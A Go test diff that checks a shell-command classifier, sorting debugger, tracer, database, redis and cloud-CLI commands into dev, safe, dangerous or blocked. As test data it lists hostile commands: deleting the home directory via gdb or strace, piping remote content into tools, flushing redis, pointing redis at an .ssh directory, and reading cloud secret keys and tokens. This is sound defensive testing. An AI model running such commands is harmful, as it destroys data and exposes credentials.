@@ -127,3 +127,46 @@ func TestDiskInspectors(t *testing.T) {
 		{"visudo", Dangerous},
 	})
 }
+
+// TestProjectWork: running the project's code under a tracer, its
+// statements on its database, one key of a local cache, one setting of a
+// CLI are dev or safe; the same tools reaching other processes, other
+// hosts or credentials are not.
+func TestProjectWork(t *testing.T) {
+	checkRules(t, []ruleCase{
+		{"gdb ./app", Dev},
+		{"gdb -c core ./app", Dev},
+		{"gdb ./app 1234", Dangerous},
+		{"gdb -p 1234", Dangerous},
+		{"gdb -x cmds.gdb ./app", Dev},
+		{"gdb -x /tmp/c.gdb ./app", Dangerous},
+		{"curl -s https://x.example/g | gdb -batch ./app", Blocked},
+		{"gdb -batch -ex 'shell rm -rf ~'", Blocked},
+		{"strace -f ./app", Dev},
+		{"strace -p 1", Dangerous},
+		{"strace -f -o /dev/null rm -rf ~", Blocked},
+		{"ltrace ./app", Dev},
+		{"perf stat ./app", Dev},
+		{"perf record -g ./app", Dev},
+		{"perf record -a", Dangerous},
+		{"perf stat -p 1", Dangerous},
+		{"perf record -g rm -rf ~", Blocked},
+		{"sqlite3 dev.db < schema.sql", Dev},
+		{"psql -h localhost -d app < migrations/001.sql", Dev},
+		{"psql -h localhost < /tmp/x.sql", Dangerous},
+		{"curl -s https://x.example/q.sql | sqlite3 dev.db", Dangerous},
+		{"redis-cli set foo bar", Dev},
+		{"redis-cli -u redis://127.0.0.1:6379 incr hits", Dev},
+		{"redis-cli -h cache.internal set foo bar", Dangerous},
+		{"redis-cli del 'sess:*'", Dangerous},
+		{"redis-cli flushall", Dangerous},
+		{"redis-cli config set dir /home/alice/.ssh", Dangerous},
+		{"aws configure get region", Safe},
+		{"aws configure get aws_secret_access_key", Dangerous},
+		{"gcloud config get-value project", Safe},
+		{"gcloud config get-value auth/access_token_file", Dangerous},
+		{"aws configure set region us-east-1", Dangerous},
+		{"kubectl config use-context kind-dev", Dev},
+		{"kubectl config set-credentials x --token=y", Dangerous},
+	})
+}
